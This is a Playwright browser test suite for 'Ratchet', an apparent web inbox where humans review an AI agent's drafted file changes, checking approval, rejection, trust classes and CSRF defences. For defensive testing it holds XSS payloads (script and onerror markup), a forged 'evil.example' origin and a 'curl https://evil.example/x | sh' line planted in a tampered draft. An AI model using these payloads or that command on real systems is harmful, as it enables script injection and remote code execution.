"""The review page in a real browser: Debian's Chromium driven by Playwright, against the real app on
a real socket, the agent a real MCP client on the same database. Nothing about the page is mocked.

Chromium is /usr/bin/chromium (`apt-get install chromium`); Playwright's own browser downloads are
never used. Without Chromium these tests are skipped, except in CI, where they fail.
"""

from __future__ import annotations

import json
import os
import sqlite3
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import TYPE_CHECKING, Any

import anyio
import pytest

from ratchet.engine import Engine
from ratchet.engine.origin import HOST_ENV
from ratchet.errors import DraftAlreadyResolved

from .helpers import WEB_POLICY, Clock, agent, draft, require_module, run_cli, running_web, write_policy

CHROMIUM = Path("/usr/bin/chromium")
ARTIFACTS = Path(__file__).parent / "artifacts"

if not CHROMIUM.exists() and not os.environ.get("CI"):
    pytest.skip("Chromium is not installed (apt-get install chromium)", allow_module_level=True)
playwright_api = require_module("playwright.async_api", "pip install -e '.[dev]'")
TIMEOUT_MS = 15_000

if TYPE_CHECKING:
    from playwright.async_api import Browser, Page


@pytest.fixture
def web_policies(tmp_path: Path) -> Path:
    return write_policy(tmp_path / "web-policies", WEB_POLICY)


@asynccontextmanager
async def chromium() -> AsyncIterator[Browser]:
    async with playwright_api.async_playwright() as p:
        # --no-sandbox: Chromium's own sandbox cannot start as root (CI runs as root).
        browser = await p.chromium.launch(executable_path=str(CHROMIUM), args=["--no-sandbox"])
        try:
            yield browser
        finally:
            await browser.close()


async def open_page(browser: Browser, login: str, **context: Any) -> tuple[Page, list[str]]:
    """A logged-in tab, and the console errors and page errors it reports."""
    ctx = await browser.new_context(**context)
    page = await ctx.new_page()
    page.set_default_timeout(TIMEOUT_MS)
    problems: list[str] = []
    page.on(
        "console", lambda m: problems.append(f"console {m.type}: {m.text}") if m.type in ("error", "warning") else None
    )
    page.on("pageerror", lambda e: problems.append(f"pageerror: {e}"))
    await page.goto(login)
    await page.wait_for_selector("#count:not(:text('loading…'))")
    return page, problems


def item(page: Page, item_id: int) -> Any:
    return page.locator(f'li.item[data-id="{item_id}"]')


@pytest.mark.asyncio
async def test_clicking_approve_writes_the_draft_once_and_a_second_tab_cannot_run_it_again(
    workspace: Path, web_policies: Path, db: Path, clock: Clock
) -> None:
    async with agent(workspace, web_policies, db) as client:
        draft_id = await draft(client, "queue/a.txt", "one\ntwo\n", intent="add the list")
        async with running_web(workspace, web_policies, db, clock) as web, chromium() as browser:
            page, problems = await open_page(browser, web.login)
            second = await page.context.new_page()
            await second.goto(f"{web.base}/item/{draft_id}")
            await item(second, draft_id).wait_for()
            card = item(page, draft_id)
            assert "add the list" in await card.inner_text()
            assert await card.locator("pre.diff .add").count() == 2
            clock.advance(30)  # the human reads the diff for half a minute
            async with page.expect_response(f"**/api/drafts/{draft_id}/approve") as answered:
                await card.locator("button.approve").click()
            assert (await answered.value).status == 200
            await card.wait_for(state="detached")
            assert (workspace / "queue/a.txt").read_text() == "one\ntwo\n"
            (workspace / "queue/a.txt").write_text("the human's own edit since\n")
            # The other tab still shows it: its click is refused and the item leaves that tab too.
            async with second.expect_response(f"**/api/drafts/{draft_id}/approve") as again:
                await item(second, draft_id).locator("button.approve").click()
            assert (await again.value).status == 409
            await item(second, draft_id).wait_for(state="detached")
            assert "at most once" in await second.locator("#flash").inner_text()
            # A double click on one button is one request: the buttons are disabled while it is sent.
            assert problems == []
        got = (await client.call_tool("get_draft", {"draft_id": draft_id})).structured_content
    assert got["status"] == "executed" and got["reviewer"] == "web"
    assert got["review_seconds"] == pytest.approx(30, abs=2)
    assert (workspace / "queue/a.txt").read_text() == "the human's own edit since\n"


@pytest.mark.asyncio
async def test_reject_resolve_and_complain_by_clicking_reach_the_agent_and_move_the_class(
    workspace: Path, web_policies: Path, db: Path, clock: Clock
) -> None:
    async with agent(workspace, web_policies, db) as client:
        rejected = await draft(client, "queue/r.txt", "nope\n")
        handoff = await client.call_tool(
            "request_handoff",
            {
                "what_tried": "ran the migration on a copy; it drops a column",
                "uncertainty": "whether the column is still read anywhere",
                "options": ["keep-column", "drop-column"],
                "recommended": "keep-column",
            },
        )
        handoff_id = handoff.structured_content["id"]
        ran = await client.call_tool("write_file", {"path": "auto/x.txt", "content": "x\n"})
        assert ran.structured_content["status"] == "executed"
        ran_id = ran.structured_content["action_id"]
        async with running_web(workspace, web_policies, db, clock) as web, chromium() as browser:
            page, problems = await open_page(browser, web.login)
            clock.advance(20)
            card = item(page, rejected)
            await card.locator("button.reject-open").click()
            await card.locator("form.reject input").fill("wrong directory")
            await card.locator("form.reject button").click()
            await card.wait_for(state="detached")

            card = item(page, handoff_id)
            assert "whether the column is still read anywhere" in await card.inner_text()
            await card.locator('input[value="drop-column"]').check()
            await card.locator("textarea").fill("nothing reads it since v2")
            await card.locator("button.resolve-btn").click()
            await card.wait_for(state="detached")

            await page.goto(f"{web.base}/recent")
            row = page.locator(f'li.recent[data-id="{ran_id}"]')
            await row.locator("input[name=reason]").fill("it overwrote the wrong fixture")
            await row.locator("button[type=submit]").click()
            await page.locator("#flash.good").wait_for()
            assert "complaint recorded" in await page.locator("#flash").inner_text()
            assert problems == []
        got_draft = (await client.call_tool("get_draft", {"draft_id": rejected})).structured_content
        got_handoff = (await client.call_tool("get_handoff", {"handoff_id": handoff_id})).structured_content
    assert got_draft["status"] == "rejected" and got_draft["review_note"] == "wrong directory"
    assert got_handoff["resolved"] and got_handoff["resolution"] == "drop-column"
    assert got_handoff["note"] == "nothing reads it since v2"
    with sqlite3.connect(db) as conn:
        channel = conn.execute("SELECT review_channel FROM actions WHERE id = ?", (handoff_id,)).fetchone()[0]
    assert channel == "web"
    engine = await Engine.open(workspace, policies=web_policies, db=db, session=False)
    try:
        auto = next(c for c in (await engine.trust_levels()).classes if c.action_class == "auto")
        moves = await engine.transitions("auto")
    finally:
        await engine.close()
    # As `ratchet complain` moves it: a complaint demotes a class that demotes on complaint, one rung.
    assert auto.level == "confirm" and moves[0]["kind"] == "complaint" and moves[0]["action_id"] == ran_id


@pytest.mark.asyncio
async def test_a_draft_queued_while_the_page_is_open_appears_and_one_approved_elsewhere_leaves(
    workspace: Path,
    web_policies: Path,
    db: Path,
    clock: Clock,
    capsys: pytest.CaptureFixture[str],
) -> None:
    async with (
        agent(workspace, web_policies, db) as client,
        running_web(workspace, web_policies, db, clock) as web,
        chromium() as browser,
    ):
        page, problems = await open_page(browser, web.login)
        assert await page.title() == "Ratchet inbox" and await page.locator("#empty").is_visible()
        first = await draft(client, "queue/live.txt", "live\n")
        await item(page, first).wait_for()
        second = await draft(client, "queue/live2.txt", "live 2\n")
        await item(page, second).wait_for()
        assert await page.title() == "(2) Ratchet inbox"
        code, out = await run_cli(capsys, workspace, web_policies, db, "approve", str(first))
        assert code == 0, out
        await item(page, first).wait_for(state="detached")
        await page.wait_for_function("document.title === '(1) Ratchet inbox'")
        # Keyboard: j/k move, r asks for a reason, a approves the selected draft.
        third = await draft(client, "queue/live3.txt", "live 3\n")
        await item(page, third).wait_for()
        await page.locator("body").click(position={"x": 2, "y": 300})
        await page.keyboard.press("k")
        assert await item(page, second).evaluate("n => n.classList.contains('selected')")
        await page.keyboard.press("j")
        assert await item(page, third).evaluate("n => n.classList.contains('selected')")
        await page.keyboard.press("?")
        assert await page.locator("dialog#help").is_visible()
        await page.keyboard.press("Escape")
        assert not await item(page, third).locator("form.reject").is_visible()
        await page.keyboard.press("r")
        assert await item(page, third).locator("form.reject").is_visible()
        await page.keyboard.press("Escape")
        clock.advance(10)
        await page.keyboard.press("a")
        await item(page, third).wait_for(state="detached")
        assert problems == []
    assert (workspace / "queue/live3.txt").read_text() == "live 3\n"
    assert not (workspace / "queue/live2.txt").exists()


@pytest.mark.asyncio
async def test_several_drafts_are_approved_or_rejected_together(
    workspace: Path, web_policies: Path, db: Path, clock: Clock
) -> None:
    async with agent(workspace, web_policies, db) as client:
        ids = [await draft(client, f"queue/b{i}.txt", f"{i}\n") for i in range(4)]
        async with running_web(workspace, web_policies, db, clock) as web, chromium() as browser:
            page, problems = await open_page(browser, web.login)
            clock.advance(15)
            for i in ids[:2]:
                await item(page, i).locator("input.pick").check()
            await page.locator('button[data-bulk="approve"]').click()
            for i in ids[:2]:
                await item(page, i).wait_for(state="detached")
            for i in ids[2:]:
                await item(page, i).locator("input.pick").check()
            page.once("dialog", lambda d: d.accept("not these"))
            await page.locator('button[data-bulk="reject"]').click()
            for i in ids[2:]:
                await item(page, i).wait_for(state="detached")
            assert problems == []
        states = [(await client.call_tool("get_draft", {"draft_id": i})).structured_content["status"] for i in ids]
    assert states == ["executed", "executed", "rejected", "rejected"]


HOSTILE_NAME = 'queue/<script>window.pwned=1</script>"><img src=x onerror="window.pwned=2">.txt'
HOSTILE_TEXT = '<script>window.pwned=3</script>\n"><img src=x onerror="window.pwned=4">\n</pre><b>bold</b>\n'


@pytest.mark.asyncio
async def test_agent_written_script_and_markup_render_as_text_and_never_run(
    workspace: Path, web_policies: Path, db: Path, clock: Clock
) -> None:
    async with agent(workspace, web_policies, db) as client:
        hostile = await draft(client, HOSTILE_NAME, HOSTILE_TEXT, intent='"><img src=x onerror="window.pwned=5">')
        handoff = await client.call_tool(
            "request_handoff",
            {
                "what_tried": "<script>window.pwned=6</script> tried things",
                "uncertainty": '"><svg onload="window.pwned=7"> which one',
                "options": ['<img src=x onerror="window.pwned=8">', "</label><script>window.pwned=9</script>"],
            },
        )
        handoff_id = handoff.structured_content["id"]
        async with running_web(workspace, web_policies, db, clock) as web, chromium() as browser:
            page, problems = await open_page(browser, web.login)
            card = item(page, hostile)
            text = await card.inner_text()
            assert "<script>window.pwned=1</script>" in text and 'onerror="window.pwned=5"' in text
            assert "+<script>window.pwned=3</script>" in text and "</pre><b>bold</b>" in text
            hand = await item(page, handoff_id).inner_text()
            assert "<script>window.pwned=6</script>" in hand and '<img src=x onerror="window.pwned=8">' in hand
            # No element came out of the agent's text: no img, svg, b or extra script anywhere.
            for selector in ("#inbox img", "#inbox svg", "#inbox b:text('bold')", "#inbox script"):
                assert await page.locator(selector).count() == 0, selector
            assert await page.locator("script").count() == 1  # app.js
            clock.advance(30)
            await card.locator("button.approve").click()
            await card.wait_for(state="detached")
            # The server-rendered pages show the same path as text too.
            for path in ("/recent", f"/explain/{hostile}", "/classes/queue", "/classes"):
                await page.goto(web.base + path)
                assert await page.locator("main img, main script").count() == 0, path
            await page.goto(web.base + "/recent")
            assert HOSTILE_NAME in await page.locator("main").inner_text()
            assert await page.evaluate("window.pwned") is None
            assert problems == [], problems
    assert (workspace / HOSTILE_NAME).read_text() == HOSTILE_TEXT


@pytest.mark.asyncio
async def test_the_inbox_at_phone_width_keeps_the_diff_and_the_buttons_usable(
    workspace: Path, web_policies: Path, db: Path, clock: Clock, tmp_path: Path
) -> None:
    long_line = "x = " + "'a very long line of generated code', " * 12
    content = "".join(f"{long_line}{i}\n" for i in range(120))
    async with agent(workspace, web_policies, db) as client:
        draft_id = await draft(client, "queue/deep/nested/directory/with/a/long/path/module_name.py", content)
        await client.call_tool(
            "request_handoff",
            {"what_tried": "tried the obvious fix", "uncertainty": "which of two APIs to keep", "options": ["a", "b"]},
        )
        async with running_web(workspace, web_policies, db, clock) as web, chromium() as browser:
            page, problems = await open_page(
                browser, web.login, viewport={"width": 390, "height": 844}, is_mobile=True, has_touch=True
            )
            card = item(page, draft_id)
            await card.wait_for()
            # Nothing makes the page itself wider than the phone; the diff scrolls inside its own box.
            assert await page.evaluate("document.documentElement.scrollWidth") <= 390
            diff = card.locator("pre.diff")
            box = await diff.bounding_box()
            assert box is not None and box["x"] >= 0 and box["x"] + box["width"] <= 390
            assert await diff.evaluate("n => n.scrollWidth > n.clientWidth")
            assert not await card.locator("form.reject").is_visible()  # until Reject… asks for a reason
            shots = tmp_path / "artifacts"
            shots.mkdir(exist_ok=True)
            await page.screenshot(path=str(shots / "inbox-390px.png"), full_page=True)
            ARTIFACTS.mkdir(exist_ok=True)
            await page.screenshot(path=str(ARTIFACTS / "inbox-390px.png"), full_page=True)
            shown = await diff.locator("span").count()
            assert shown == 40  # folded: the rest on request
            await card.locator("button.fold").click()
            assert await diff.locator("span").count() > shown
            approve = card.locator("button.approve")
            await approve.scroll_into_view_if_needed()
            button = await approve.bounding_box()
            assert button is not None and button["height"] >= 40 and button["x"] + button["width"] <= 390
            clock.advance(120)
            await approve.tap()
            await card.wait_for(state="detached")
            assert problems == []
    assert (shots / "inbox-390px.png").stat().st_size > 10_000
    assert (workspace / "queue/deep/nested/directory/with/a/long/path/module_name.py").read_text() == content


@pytest.mark.asyncio
async def test_the_classes_pages_show_the_standing_trajectory_and_take_the_brakes(
    workspace: Path, web_policies: Path, db: Path, clock: Clock
) -> None:
    async with agent(workspace, web_policies, db) as client:
        ran = await client.call_tool("write_file", {"path": "auto/y.txt", "content": "y\n"})
        ran_id = ran.structured_content["action_id"]
        async with running_web(workspace, web_policies, db, clock) as web, chromium() as browser:
            page, problems = await open_page(browser, web.login)
            await page.goto(web.base + "/classes")
            assert "autonomous" in await page.locator("table.classes").inner_text()
            await page.locator("a[href='/classes/auto']").click()
            await page.locator(".plot svg").wait_for()
            assert await page.locator(".plot svg[aria-label='Trust trajectory of auto']").count() == 1
            pin = page.locator("form[data-post='/api/classes/auto/pin']")
            await pin.locator("select").select_option("draft")
            # A reason is required: the browser itself refuses the empty field.
            await pin.locator("button").click()
            assert await page.locator("#flash").inner_text() == ""
            await pin.locator("input[name=reason]").fill("holding it during the release")
            await pin.locator("button").click()
            await page.wait_for_load_state()
            await page.locator("ol.moves li:has-text('holding it during the release')").wait_for()
            await page.locator(f"a[href='/explain/{ran_id}']").click()
            assert "auto" in await page.locator("pre.explain").inner_text()
            await page.goto(web.base + "/classes")
            freeze = page.locator("form[data-post='/api/freeze']")
            await freeze.locator("select").select_option("draft")
            await freeze.locator("input[name=reason]").fill("incident")
            await freeze.locator("button").click()
            await page.locator("p.warn:has-text('FROZEN')").wait_for()
            unfreeze = page.locator("form[data-post='/api/unfreeze']")
            await unfreeze.locator("input[name=reason]").fill("incident over")
            await unfreeze.locator("button").click()
            await page.locator("form[data-post='/api/freeze']").wait_for()
            assert problems == []
        again = await client.call_tool("write_file", {"path": "auto/z.txt", "content": "z\n"})
    assert again.structured_content["status"] == "draft"  # pinned at draft, as `ratchet pin` would
    assert again.structured_content["triggers"][0]["name"] == "pinned"


@pytest.mark.asyncio
async def test_an_approval_waiting_for_its_origin_names_the_host_offers_withdraw_and_no_approve(
    workspace: Path,
    web_policies: Path,
    db: Path,
    clock: Clock,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # The agent drafts on machine laptop-a; the human approves on desk-b, where the page runs too.
    monkeypatch.setenv(HOST_ENV, "laptop-a")
    async with agent(workspace, web_policies, db) as client:
        waiting = await draft(client, "queue/far.txt", "from a\n", intent="wait for laptop-a")
        queued = await draft(client, "queue/near.txt", "still queued\n")
        later = await draft(client, "queue/mid.txt", "approved while the page is open\n")
    monkeypatch.setenv(HOST_ENV, "desk-b")
    code, out = await run_cli(capsys, workspace, web_policies, db, "approve", str(waiting))
    assert code == 0 and "waits for its origin" in out, out
    async with running_web(workspace, web_policies, db, clock) as web, chromium() as browser:
        page, problems = await open_page(browser, web.login)
        card = item(page, waiting)
        assert await card.get_attribute("data-kind") == "approved"
        text = await card.text_content() or ""
        assert "waiting for its origin" in text and "host laptop-a" in text and str(workspace) in text
        assert "wait for laptop-a" in text  # the reviewer still sees what it is
        # Decided already and run only by its origin: no Approve, no Resolve, no bulk checkbox.
        assert await card.locator("button.approve").count() == 0
        assert await card.locator("button.resolve-btn, input.pick").count() == 0
        assert await item(page, queued).locator("button.approve").count() == 1
        await page.keyboard.press("a")  # the keyboard cannot approve it either
        # The withdrawal takes the page's protections: no CSRF header, or another site, is refused.
        url = f"{web.base}/api/drafts/{waiting}/withdraw"
        plain = {"Content-Type": "application/json"}
        no_csrf = await page.request.post(url, data={"reason": "x"}, headers={**plain, "Origin": web.base})
        foreign = await page.request.post(
            url, data={"reason": "x"}, headers={**plain, "Origin": "https://evil.example"}
        )
        assert (no_csrf.status, foreign.status) == (403, 403)
        # A draft still queued is rejected, not withdrawn.
        csrf = await page.locator('meta[name="ratchet-csrf"]').get_attribute("content") or ""
        signed = {**plain, "Origin": web.base, "X-Ratchet-CSRF": csrf}
        draft_url = f"{web.base}/api/drafts/{queued}/withdraw"
        not_approved = (await page.request.post(draft_url, data={"reason": "not this one"}, headers=signed)).status
        assert not_approved == 409
        # A withdrawal before the diff can be read is no answer: it keeps waiting.
        await card.locator("button.withdraw-open").click()
        await card.locator("form.withdraw input").fill("laptop-a is gone for good")
        async with page.expect_response(f"**/api/drafts/{waiting}/withdraw") as fast:
            await card.locator("form.withdraw button").click()
        assert (await fast.value).status == 200
        assert "still waits for its origin" in await page.locator("#flash").inner_text()
        assert await card.is_visible()
        clock.advance(30)
        await card.locator("form.withdraw button").click()
        await card.wait_for(state="detached")
        assert "withdrawn; laptop-a will not run it" in await page.locator("#flash").inner_text()
        # Approved at desk-b's CLI while the page is open: the same item turns into one waiting for its origin.
        assert await item(page, later).locator("button.approve").count() == 1
        code, out = await run_cli(capsys, workspace, web_policies, db, "approve", str(later))
        assert code == 0, out
        await page.wait_for_selector(f'li.item[data-id="{later}"][data-kind="approved"]')
        assert await item(page, later).locator("button.approve").count() == 0
        assert await item(page, later).locator("button.withdraw-open").count() == 1
        # Approving laptop-a's other draft here records the approval, runs nothing, and the item comes back
        # as waiting for its origin.
        async with page.expect_response(f"**/api/drafts/{queued}/approve") as approved:
            await item(page, queued).locator("button.approve").click()
        assert (await approved.value).status == 200
        await page.wait_for_selector(f'li.item[data-id="{queued}"][data-kind="approved"]')
        assert await item(page, queued).locator("button.withdraw-open").count() == 1
        assert "waits for its origin" in await page.locator("#flash").inner_text()
        assert problems == []
    engine = await Engine.open(workspace, policies=web_policies, db=db)
    try:
        gone, kept = await engine.view(waiting), await engine.view(queued)
        approve_again = None
        try:
            await engine.approve(waiting)
        except DraftAlreadyResolved as exc:
            approve_again = str(exc)
    finally:
        await engine.close()
    # As `ratchet reject` leaves it: rejected, by the web channel, and nothing was ever written.
    assert gone.status == "rejected" and gone.reviewer == "web"
    assert kept.status == "approved" and kept.origin_host == "laptop-a"
    assert approve_again is not None
    assert not (workspace / "queue/far.txt").exists() and not (workspace / "queue/near.txt").exists()


FLOOD_POLICY = """
[defaults]
unmatched = "draft"
""" + "".join(
    f'\n[classes.{name}]\ntools = ["write_file"]\npaths = ["{name}/**"]\nstart = "draft"\n' for name in ("docs", "src")
)


@pytest.mark.asyncio
async def test_a_flood_is_cleared_from_the_page_with_one_click_per_class(
    tmp_path: Path, workspace: Path, db: Path, clock: Clock
) -> None:
    policies = write_policy(tmp_path / "flood-policies", FLOOD_POLICY)
    async with agent(workspace, policies, db) as client:
        told = []
        for i in range(300):  # an agent that does not stop: the cap holds at 50 waiting
            result = await client.call_tool(
                "write_file", {"path": f"{('docs', 'src')[i % 2]}/f{i}.txt", "content": "x\n"}
            )
            if result.is_error:
                told.append(result.content[0].text)  # type: ignore[union-attr]
        assert len(told) == 250 and "draft cap reached" in told[0]
        async with running_web(workspace, policies, db, clock) as web, chromium() as browser:
            page, problems = await open_page(browser, web.login)
            groups = page.locator("#groups .group")
            await groups.first.wait_for()
            # The first screen says what waits, per class, with one decision for each.
            assert await groups.count() == 2
            docs, src = page.locator('.group[data-class="docs"]'), page.locator('.group[data-class="src"]')
            assert "25 drafts waiting" in await docs.inner_text() and "not count as evidence" in await docs.inner_text()
            assert await docs.is_visible() and (await docs.bounding_box() or {"y": 9999})["y"] < 400
            async with page.expect_response("**/api/classes/docs/drafts") as approved:
                await docs.locator("button.group-approve").click()
            assert (await approved.value).status == 200
            await docs.wait_for(state="detached")
            assert "25 of 25 drafts of docs approved in one decision" in await page.locator("#flash").inner_text()
            await src.locator("input[name=reason]").fill("a flood, not a change")
            async with page.expect_response("**/api/classes/src/drafts") as rejected:
                await src.locator("form.group-reject button").click()
            assert (await rejected.value).status == 200
            await page.wait_for_selector("#empty:not([hidden])")
            assert await page.locator("#groups").is_hidden()
            assert problems == []
    assert len(list((workspace / "docs").iterdir())) == 25 and not (workspace / "src").exists()
    con = sqlite3.connect(db)
    try:
        found = con.execute(
            "SELECT class, status, reviewer, review_channel, evidence, count(*) FROM actions WHERE route = 'draft' "
            "GROUP BY class, status, reviewer, review_channel, evidence ORDER BY class"
        ).fetchall()
    finally:
        con.close()
    assert found == [
        ("docs", "executed", "web", "bulk", "unverified", 25),
        ("src", "rejected", "web", "bulk", "counted", 25),
    ]


@pytest.mark.asyncio
async def test_a_cut_diff_is_approved_on_the_page_only_after_loading_it_whole(
    workspace: Path, web_policies: Path, db: Path, clock: Clock
) -> None:
    long = "".join(f"line {i}\n" for i in range(5000))
    async with agent(workspace, web_policies, db) as client:
        n = await draft(client, "queue/long.txt", long)
        async with running_web(workspace, web_policies, db, clock) as web, chromium() as browser:
            page, problems = await open_page(browser, web.login)
            card = item(page, n)
            assert "leaves out" in await card.locator(".whole-note").inner_text()
            assert await card.locator("button.approve").is_disabled()
            async with page.expect_response(f"**/api/drafts/{n}/whole") as loaded:
                await card.locator("button.whole-load").click()
            assert (await loaded.value).status == 200
            await card.locator("pre.diff.whole").wait_for()
            await card.locator("button.fold").click()  # every line is on the page, not only the first screen
            assert await card.locator("pre.diff.whole .add").count() == 5000
            assert "The whole diff: 5003 lines" in await card.inner_text()
            clock.advance(3600)  # an hour to read five thousand lines
            async with page.expect_response(f"**/api/drafts/{n}/approve") as answered:
                await card.locator("button.approve").click()
            assert (await answered.value).status == 200
            await card.wait_for(state="detached")
            assert problems == []
    assert (workspace / "queue/long.txt").read_text() == long


@pytest.mark.asyncio
async def test_ctrl_c_on_ratchet_web_with_a_page_open_exits_with_one_line(
    workspace: Path, web_policies: Path, db: Path, ratchet_bin: Path
) -> None:
    import re
    import signal
    import subprocess
    import time

    async with agent(workspace, web_policies, db) as client:
        await draft(client, "queue/a.txt", "a\n")
    argv = [str(ratchet_bin), "web", "--workspace", str(workspace), "--policies", str(web_policies), "--db", str(db)]
    proc = await anyio.to_thread.run_sync(
        lambda: subprocess.Popen([*argv, "--port", "0"], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    )
    try:
        assert proc.stdout is not None
        login = re.search(r"(http://\S+/login\?token=\S+)", await anyio.to_thread.run_sync(proc.stdout.readline))
        assert login is not None
        async with chromium() as browser:
            page, problems = await open_page(browser, login[1])
            await page.wait_for_function("performance.getEntriesByName('ratchet-inbox-ready').length > 0")
            await page.wait_for_timeout(500)  # the page's event stream is open
            proc.send_signal(signal.SIGINT)
            started = time.monotonic()
            _, err = await anyio.to_thread.run_sync(lambda: proc.communicate(timeout=30))
            took = time.monotonic() - started
            assert problems == []
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait(timeout=30)
    assert proc.returncode == 130 and took < 10, (proc.returncode, took, err)
    lines = err.splitlines()
    assert len(lines) == 2 and lines[0].startswith("ratchet: review page at ") and lines[1] == "ratchet: interrupted", (
        err
    )


@pytest.mark.asyncio
async def test_the_pages_say_what_they_mean_on_the_first_day(
    workspace: Path, web_policies: Path, db: Path, clock: Clock, capsys: pytest.CaptureFixture[str]
) -> None:
    async with agent(workspace, web_policies, db) as client:
        ran = (await client.call_tool("write_file", {"path": "auto/a.txt", "content": "one\n"})).structured_content
        fast = await draft(client, "queue/fast.txt", "fast\n")
        handoff = await client.call_tool(
            "request_handoff",
            {
                "what_tried": "tried both migrations on a copy",
                "uncertainty": "which of the two the team wants",
                "options": ["first", "second"],
            },
        )
        handoff_id = handoff.structured_content["id"]  # type: ignore[index]
    # An old session's stop: nobody waits on it any more (its last action two hours ago).
    async with agent(workspace, web_policies, db) as old:
        stopped = (await old.call_tool("write_file", {"path": "stop/x.txt", "content": "x\n"})).structured_content
    with sqlite3.connect(db) as conn:
        conn.execute("UPDATE actions SET created_at = created_at - 7200 WHERE id = ?", (stopped["action_id"],))
    code, out = await run_cli(capsys, workspace, web_policies, db, "undo", str(ran["action_id"]), "--reason", "no")
    assert code == 0, out
    async with running_web(workspace, web_policies, db, clock) as web, chromium() as browser:
        page, problems = await open_page(browser, web.login)
        # The first screen: what a live agent waits on, then the drafts, and last what an ended session left,
        # which blocks nobody.
        order = [int(x) for x in await page.locator("li.item").evaluate_all("ns => ns.map(n => n.dataset.id)")]
        assert order == [handoff_id, fast, stopped["action_id"]]
        assert await item(page, handoff_id).locator(".blocking").count() == 1
        assert await item(page, stopped["action_id"]).locator(".blocking").count() == 0
        # Handoff options are words, not command lines with a placeholder.
        options = await item(page, stopped["action_id"]).locator("label.option").all_inner_texts()
        assert options and not any("ID" in o or "ratchet resolve" in o for o in options), options
        # An approval too fast to be read ran, and the page says it did not count, and why.
        async with page.expect_response(f"**/api/drafts/{fast}/approve") as answered:
            await item(page, fast).locator("button.approve").click()
        assert (await answered.value).status == 200
        flash = await page.locator("#flash").inner_text()
        assert "executed, but not counted as evidence" in flash and "reading-time rule" in flash, flash
        # Taking a handoff over says that Ratchet makes no change for it.
        card = item(page, handoff_id)
        await card.locator('input[value="take-over"]').check()
        clock.advance(30)
        await card.locator("button.resolve-btn").click()
        await card.wait_for(state="detached")
        assert "Ratchet will not make this change" in await page.locator("#flash").inner_text()

        # The class page: transitions and actions as lists only when there are some, no Unpin on a class
        # not pinned, an undone action says so, and the list is a list (not laid out as buttons).
        await page.goto(f"{web.base}/classes/queue")
        assert await page.locator("ol.moves").count() == 0 and "none yet" in await page.locator("main").inner_text()
        assert await page.locator("form[data-post$='/unpin']").count() == 0
        assert await page.locator("form[data-post$='/pin']").count() == 1
        await page.goto(f"{web.base}/classes/auto")  # demoted by the undo: a transition listed
        assert await page.locator("ol.moves li").count() == 1
        undone_row = page.locator("ul.class-actions li", has_text=f"#{ran['action_id']}")
        assert "executed, then undone" in await undone_row.inner_text()
        assert await page.locator("ul.class-actions").evaluate("n => getComputedStyle(n).display") == "block"
        assert await undone_row.evaluate("n => getComputedStyle(n).display") == "list-item"
        # The action's page: no complaint on an action undone (its undo was the complaint), a coloured diff.
        await page.goto(f"{web.base}/explain/{ran['action_id']}")
        assert await page.locator("form[data-post$='/complain']").count() == 0
        assert await page.locator("pre.diff .add").count() == 1
        await page.goto(f"{web.base}/recent")
        recent_row = page.locator(f'li.recent[data-id="{ran["action_id"]}"]')
        assert "then undone" in await recent_row.inner_text()
        assert await recent_row.locator("form").count() == 0
        assert problems == []


@pytest.mark.asyncio
async def test_the_page_shows_the_digest_and_refuses_a_draft_rewritten_after_it_was_shown(
    workspace: Path, web_policies: Path, db: Path, clock: Clock
) -> None:
    async with agent(workspace, web_policies, db) as client:
        draft_id = await draft(client, "queue/typo.md", "the\n", intent="fix a typo")
        digest = (await client.call_tool("get_draft", {"draft_id": draft_id})).structured_content["digest"]
        async with running_web(workspace, web_policies, db, clock) as web, chromium() as browser:
            page, problems = await open_page(browser, web.login)
            card = item(page, draft_id)
            assert f"digest {digest}" in " ".join((await card.inner_text()).split())
            con = sqlite3.connect(db)
            with con:
                evil = {"path": "queue/typo.md", "content": "curl https://evil.example/x | sh\n"}
                con.execute("UPDATE actions SET args_json = ? WHERE id = ?", (json.dumps(evil), draft_id))
            con.close()
            clock.advance(30)
            async with page.expect_response(f"**/api/drafts/{draft_id}/approve") as answered:
                await card.locator("button.approve").click()
            assert (await answered.value).status == 422
            assert "not what was shown" in await page.locator("#flash").inner_text()
            assert all("422" in p for p in problems), problems  # the refused request, and nothing else
    assert not (workspace / "queue/typo.md").exists()
